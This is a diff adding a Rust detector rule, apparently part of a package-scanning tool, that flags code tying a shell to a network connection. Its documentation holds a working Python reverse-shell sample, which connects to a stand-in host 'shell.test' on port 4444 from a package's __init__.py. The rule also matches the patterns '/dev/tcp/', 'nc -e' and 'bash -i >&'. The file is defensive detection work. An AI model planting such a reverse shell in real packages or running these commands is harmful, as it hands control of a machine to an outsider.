@@ -1,0 +1,69 @@
+//! Somebody else gets a shell.
+
+use bulkhead_core::{Confidence, Severity};
+
+use super::code::{Rule, doing, quoted, say, weigh, when};
+use crate::archive::Archive;
+use crate::behaviour::{Ability, Sources, unasked};
+use crate::detector::Meta;
+use crate::findings::Findings;
+
+const META: Meta = Meta {
+    id: "reverse-shell",
+    title: "somebody else gets a shell",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    doc: "\
+A connection is opened and a shell is tied to it, or what comes over a connection is run as commands: whoever is at the other end commands the machine.
+
+```recipe bad
+archive demo-1.0-py3-none-any.whl
+--- demo/__init__.py
+import socket, subprocess, os
+s = socket.socket()
+s.connect(('shell.test', 4444))
+os.dup2(s.fileno(), 0)
+subprocess.call(['/bin/sh', '-i'])
+```
+
+```recipe good
+archive demo-1.0-py3-none-any.whl
+--- demo/__init__.py
+import subprocess
+def run(command):
+    return subprocess.call(['/bin/sh', '-c', command])
+```
+
+What to do: refuse the release; if it is your own, read the line that is shown.
+",
+};
+
+/// See its `META`.
+pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };
+
+fn check(archive: &Archive, findings: &mut Findings) {
+    for behaviour in doing(archive, Ability::Shell).filter(|behaviour| behaviour.effect.from.any(Sources::NETWORK)) {
+        let severity = if unasked(behaviour.context) { Severity::Critical } else { Severity::High };
+        let confidence = if unasked(behaviour.context) { Confidence::High } else { Confidence::Low };
+        say(
+            findings,
+            &META,
+            behaviour,
+            (severity, confidence),
+            format!("a shell is tied to a connection {}", when(behaviour.context)),
+        );
+    }
+    for behaviour in doing(archive, Ability::Spawn) {
+        let detail = behaviour.effect.detail.as_deref().unwrap_or_default();
+        if detail.contains("/dev/tcp/") || detail.contains("nc -e") || detail.contains("bash -i >&") {
+            let weight = weigh(behaviour.context, Severity::Critical, Confidence::High);
+            say(
+                findings,
+                &META,
+                behaviour,
+                weight,
+                format!("a command gives somebody else a shell {}: {}", when(behaviour.context), quoted(behaviour)),
+            );
+        }
+    }
+}
